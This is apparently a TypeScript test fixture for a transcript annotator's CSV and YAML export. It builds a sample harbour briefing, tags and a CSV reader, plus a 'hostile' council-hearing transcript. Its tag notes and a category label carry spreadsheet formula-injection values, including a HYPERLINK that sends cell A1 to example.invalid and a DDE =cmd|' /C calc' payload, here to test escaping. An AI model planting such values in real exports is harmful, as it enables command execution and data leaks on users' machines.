/** A small tagged transcript for the export tests, its sidecar written by the tagging core's own writer. */
import assert from 'node:assert/strict';
import { contextAround } from '../../src/core/annotations/context';
import type { Tag } from '../../src/core/annotations/tag';
import { writeSidecar } from '../../src/core/annotations/sidecar';
import type { ExportCategory } from '../../src/core/export/exportData';
import { gatherCorpus, type GatherOptions, type SourceDocument } from '../../src/core/export/gather';

/** A briefing with an emoji before one quote, so that code points and UTF-16 units differ there. */
export const BRIEFING = [
  'Harbour Authority Press Briefing',
  '14 March 2024',
  'Place: Port Ellis',
  '',
  'MODERATOR: Good morning. The director will open with a statement.',
  'DIRECTOR VANCE: Cargo volumes rose 12% last year, the best since 2009. 🚢 We will dredge the north channel by June.',
  'QUESTION: Is it true that the dredging budget was cut by half?',
  'DIRECTOR VANCE: No, that is simply "wrong", and the figures show it.',
  'MODERATOR: Thank you all.',
  '',
].join('\n');

export const CATEGORIES: ExportCategory[] = [
  { id: 'factual-claim', label: 'Factual claim', description: 'A statement of fact that can be checked.' },
  { id: 'statistic', label: 'Statistic', color: '#1f77b4', parent: 'factual-claim' },
  { id: 'commitment', label: 'Commitment' },
  { id: 'denial', label: 'Denial' },
];

const TIME = '2024-03-15T09:30:00Z';

/** A tag on the first occurrence of `quote` in `text`. */
export function tagOn(text: string, quote: string, id: string, category: string, extra: Partial<Tag> = {}): Tag {
  const start = text.indexOf(quote);
  if (start < 0) throw new Error(`"${quote}" is not in the text`);
  const end = start + quote.length;
  return { id, category, quote, start, end, ...contextAround(text, start, end), speaker: null, section: null, created: TIME, modified: TIME, status: 'anchored', ...extra };
}

export const NOTE = 'Says "wrong", but\nthe budget fell 48%, per the annual report.';

/** The briefing's tags: a statistic, a commitment after the emoji, a denial with a note and verdict, an orphan. */
export function briefingTags(text = BRIEFING): Tag[] {
  return [
    tagOn(text, 'Cargo volumes rose 12% last year', 't-0000000a', 'statistic', { author: 'Ines' }),
    tagOn(text, 'We will dredge the north channel by June.', 't-0000000b', 'commitment'),
    tagOn(text, 'No, that is simply "wrong"', 't-0000000c', 'denial', { note: NOTE, verdict: 'misleading', source: 'https://example.org/harbour/annual-report', author: 'Ines' }),
    { ...tagOn(text, 'Good morning.', 't-0000000d', 'factual-claim'), quote: 'The port will close in winter.', status: 'orphaned', anchorNote: 'The words are no longer in the text.' },
  ];
}

export function briefingSidecar(tags = briefingTags()): string {
  return writeSidecar({ transcriptName: 'briefing.txt', text: BRIEFING, tags });
}

export function briefingSource(sidecar = briefingSidecar()): SourceDocument {
  return { path: 'briefings/briefing.txt', uri: 'file:///corpus/briefings/briefing.txt', text: BRIEFING, sidecar: { name: 'briefings/briefing.txt.annotations.yaml', text: sidecar } };
}

export const CREATED = '2024-04-01T12:00:00.000Z';

/** The briefing gathered into a corpus. */
export function briefingCorpus(options: Partial<GatherOptions> = {}, sources: SourceDocument[] = [briefingSource()]) {
  return gatherCorpus(sources, CATEGORIES, { orphans: 'skip', ...options, created: CREATED, origin: 'Transcript Annotator 0.1.0' });
}

/** Reads RFC 4180 CSV: the test's own reader, so the writer is checked against the rules, not itself. */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"') {
      assert.equal(field, '', `a quote inside an unquoted field at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      assert.ok(c !== '\n' && c !== '\r', `a bare line break outside quotes at ${i}`);
      field += c;
      i++;
    }
  }
  assert.equal(field, '', 'the last record ends with CRLF');
  return rows;
}

/**
 * A hostile transcript: formula-looking words, emoji, Cyrillic, curly quotes,
 * and characters YAML readers refuse or fold (C1 controls, NEL, line and
 * paragraph separators, a byte-order mark, DEL, a lone surrogate).
 */
export const HOSTILE = [
  'Council Budget Hearing',
  '2 May 2025',
  '',
  'CHAIR: =SUM(A1:A9) is what the clerk typed into the minutes.',
  'TREASURER: +40% on parks, -12% on roads, @ the mayor\u2019s request. 🌳',
  'CHAIR: \u201cБюджет\u201d means budget \u2014 we heard it twice\u0092 today\u0085 and\u2028again\u2029here.',
  'TREASURER: The file said \ufeffzero\u007f and \ud800 nothing else.',
  '',
].join('\n');

/** Tags on the hostile transcript, their notes, verdicts, authors and sources as hostile as their words. */
export function hostileTags(text = HOSTILE): Tag[] {
  return [
    tagOn(text, '=SUM(A1:A9)', 't-000000e1', 'statistic', { note: '=HYPERLINK("http://example.invalid/?"&A1,"click me")', author: '@ines' }),
    tagOn(text, '+40% on parks', 't-000000e2', 'statistic', { note: '-1+1', verdict: '=1+1', source: '+https://example.org/x' }),
    tagOn(text, '\u201cБюджет\u201d means budget \u2014 we heard it twice\u0092 today\u0085 and\u2028again\u2029here.', 't-000000e3', 'factual-claim', { note: '\tleading tab', author: '\rcarriage' }),
    tagOn(text, 'The file said \ufeffzero\u007f and \ud800 nothing', 't-000000e4', 'denial', { note: 'bell\u0007 nel\u0085 ls\u2028 bom\ufeff fffe\ufffe' }),
  ];
}

/** The hostile transcript gathered into a corpus, its codebook with a formula-looking label. */
export function hostileCorpus() {
  const sidecar = writeSidecar({ transcriptName: 'hearing.txt', text: HOSTILE, tags: hostileTags() });
  const source: SourceDocument = { path: 'council/hearing.txt', uri: 'file:///corpus/council/hearing.txt', text: HOSTILE, sidecar: { name: 'council/hearing.txt.annotations.yaml', text: sidecar } };
  const categories: ExportCategory[] = [...CATEGORIES, { id: 'formula', label: '=cmd|\' /C calc\'!A0', description: '-2+3' }];
  return gatherCorpus([source], categories, { orphans: 'skip', created: CREATED, origin: 'Transcript Annotator 0.1.0' });
}
